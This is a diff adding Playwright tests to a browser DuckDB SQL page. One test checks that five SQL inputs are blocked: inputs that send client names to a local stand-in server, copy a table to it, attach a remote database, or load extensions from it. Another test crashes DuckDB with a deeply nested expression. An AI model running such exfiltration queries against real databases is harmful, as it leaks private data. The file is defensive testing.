@@ -1,5 +1,6 @@
 import {readFile} from "node:fs/promises";
-import type {IncomingMessage, Server} from "node:http";
+import {createServer, type IncomingMessage, type Server} from "node:http";
+import type {AddressInfo} from "node:net";
 import {tableFromIPC} from "apache-arrow";
 import {parse} from "csv-parse/sync";
 import type {Browser, Page} from "playwright-core";
@@ -183,13 +184,53 @@ describe("the SQL page", () => {
     await page.close();
   });
 
+  it("reaches no other address for a query, also where it came with a link", async () => {
+    const asked: string[] = [];
+    const other = createServer((request, response) => {
+      asked.push(`${request.method} ${request.url}`);
+      response.setHeader("access-control-allow-origin", "*");
+      response.end("name\nsomebody\n");
+    });
+    await new Promise<void>((done) => other.listen(0, "127.0.0.1", done));
+    const away = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
+    for (const sql of [
+      `set variable away = (select '${away}/?' || min(client_name) from clients); from read_csv(getvariable('away'))`,
+      `copy (select client_name from clients) to '${away}/clients.csv'`,
+      `attach '${away}/some.duckdb' as other`,
+      `set custom_extension_repository = '${away}'; install icu; load icu`,
+      `set enable_external_access = true; from read_csv('${away}/a.csv')`,
+    ]) {
+      const {page, wrong} = await visit(opened(sql));
+      await page.getByRole("alert").waitFor();
+      expect(await page.getByRole("alert").textContent(), sql).toMatch(/disabled|Cannot change enable_external_access/);
+      expect([...wrong, ...asked], sql).toEqual([]);
+      await page.close();
+    }
+    other.close();
+  });
+
   it("starts DuckDB anew where it broke down", async () => {
-    const {page} = await visit(opened("select date_trunc('month', timestamptz '2026-01-02 03:04:05+00') as month"));
+    const {page} = await visit(opened("set max_expression_depth = 100000"));
+    await status(page)
+      .getByText(/rows? in/)
+      .waitFor();
+    await type(page, `select ${"1 + ".repeat(5000)} 1`);
+    await page.keyboard.press("Control+Enter");
     await page.getByRole("alert").getByText("DuckDB broke down").waitFor();
     await type(page, "select date_trunc('month', max(as_of)) as month from summary");
     await page.keyboard.press("Control+Enter");
     await page.getByRole("columnheader", {name: "month"}).waitFor();
     expect(await cells(page)).toEqual([["2026-11-01"]]);
+    await page.close();
+  });
+
+  it("says in plain words what it lacks for time zones", async () => {
+    const {page, wrong} = await visit(opened("select date_trunc('month', now()) as month"));
+    await page
+      .getByRole("alert")
+      .getByText("This needs DuckDB’s extension icu, which the site does not have.")
+      .waitFor();
+    expect(wrong).toEqual([]);
     await page.close();
   });
 
